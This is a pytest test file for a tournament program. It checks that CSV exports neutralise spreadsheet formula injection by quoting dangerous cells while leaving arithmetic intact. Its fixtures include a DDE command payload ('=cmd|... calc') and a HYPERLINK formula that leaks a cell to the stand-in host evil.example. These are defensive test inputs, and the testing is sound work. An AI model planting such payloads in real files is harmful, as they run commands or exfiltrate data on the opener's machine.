"""CSV formula injection (issue 27, item 7): players named like formulas are written so that a
spreadsheet shows them and runs nothing, in every CSV the project writes (standings, crosstable,
``hub export --format csv``, the archive's, the board's scoresheet), while numbers and the sheet's
arithmetic stay what they are, so the board's own scoresheet still passes the audit.

The rule (OWASP's): a cell that starts with ``=``, ``+``, ``-``, ``@``, a tab, CR or LF (or their
full-width forms) gets a leading ``'``, unless it is written only with digits and arithmetic
(``-5``, ``-9 + (-1)``, ``-7/6``, ``24 + 12√2``, ``-3x²y``) and does not start with ``=``."""

from __future__ import annotations

import csv
import io
import subprocess
import zipfile

import pytest

from controller.hub.store import Store
from controller.scoresheet.render import ARITHMETIC, FORMULA_START, csv_cell
from controller.tournament import export
from controller.tournament.model import Division, Event, GameResult
from controller.tournament.tournament import Tournament

from .conftest import DAMATH

NAMES = ["=cmd|' /C calc'!A0", "+SUM(1,2)", "-Ana Cruz", "@Ben Lim", "\tTab Uy",
         "\uff1dFull Width", "Plain Name", "=1+1"]  # fmt: skip
SCHOOL = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


def evaluated(cell: str) -> bool:
    """Would a spreadsheet read this cell as a formula that can do more than arithmetic?"""
    return cell.startswith(FORMULA_START) and not ARITHMETIC.fullmatch(cell)


def cells(text: str) -> list[str]:
    return [c for row in csv.reader(io.StringIO(text)) for c in row]


def check(text: str, where: str) -> None:
    found = cells(text)
    assert not [c for c in found if evaluated(c)], (where, [c for c in found if evaluated(c)])
    for name in NAMES:  # shown, as typed, behind the quote
        if name.strip() and "Tab" not in name:
            assert name in found or "'" + name in found, (where, name)


@pytest.fixture
def event(tmp_path):
    folder = tmp_path / "event"
    t = Tournament.create(folder, Event("Division Meet", initial_colour="blue"),
                          Division("open", "swiss", 2))  # fmt: skip
    for name in NAMES:
        t.add_player(name, school=SCHOOL)
    t.pair(1)
    for n, p in enumerate(t.pairings("open", 1)):
        if not p.is_bye:
            outcome = ("blue", "red", "draw", "blue-forfeit")[n % 4]
            t.record_result(p.id, GameResult(outcome, None, None, source="hand"), by="test")
    t.close()
    Store(folder / "hub.sqlite", "Division Meet").close()  # the hub's store: the archive reads it
    return folder


def run(*args: str) -> str:
    r = subprocess.run([DAMATH, *args], capture_output=True, text=True, timeout=120)
    assert r.returncode == 0, r.stderr
    return r.stdout


@pytest.mark.slow
def test_every_tournament_csv_neutralises_formulas(event, tmp_path):
    for what in ("standings", "crosstable"):
        out = run("hub", "export", what, "--format", "csv", "--dir", str(event))
        check(out, f"hub export {what}")
        assert "'=cmd|' /C calc'!A0" in cells(out)
    archive = tmp_path / "event.zip"
    run("hub", "archive", "--dir", str(event), "--out", str(archive))
    with zipfile.ZipFile(archive) as z:
        written = [n for n in z.namelist() if n.endswith(".csv")]
        assert {n.rsplit("/", 1)[1] for n in written} == {
            "standings.csv",
            "crosstable.csv",
            "teams.csv",
        }
        for name in written:
            text = z.read(name).decode()
            if name.endswith("teams.csv"):  # a school's players are one cell: none evaluated
                assert not [c for c in cells(text) if evaluated(c)], name
                assert "'" + SCHOOL in cells(text)
                continue
            check(text, name)
    teams = run("hub", "export", "teams", "--format", "csv", "--dir", str(event))
    assert not [c for c in cells(teams) if evaluated(c)] and "'" + SCHOOL in cells(teams)
    # Damath values in the tie-breaks and points stay numbers
    assert export.to_csv([["-7/6", "24 + 12√2", "2½", "-3x²y", "-5"]]) == (
        "-7/6,24 + 12√2,2½,-3x²y,-5\n"
    )


@pytest.mark.slow
def test_the_boards_scoresheet_stays_the_audits_and_runs_nothing(tmp_path):
    sheet = run("demo", "--format", "csv")
    (tmp_path / "sheet.csv").write_text(sheet)
    found = cells(sheet)
    assert "-9 (2, 3)" in found and "-1 ÷ (-9) = 1/9 ≈ 0" in found  # as they were
    assert any(c.startswith("-") and c[1:].isdigit() for c in found)  # negative numbers
    assert not [c for c in found if evaluated(c)]
    audit = subprocess.run(
        [DAMATH, "audit", str(tmp_path / "sheet.csv"), "--variant", "integer"],
        capture_output=True, text=True, timeout=120,
    )  # fmt: skip
    assert audit.returncode == 0, audit.stdout + audit.stderr
    # the sheet's own rule, cell by cell
    kept = ["-5", "-5 x 10 = -50 x 2 = -100", "-1 ÷ 10 = -0.1 ≈ 0", "(-15x)(-45y) = 13500"]
    for cell in kept:
        assert csv_cell(cell) == cell
    for cell in ("=1+1", "@A1", "-Ana", "=cmd|' /C calc'!A0"):
        assert csv_cell(cell) == "'" + cell
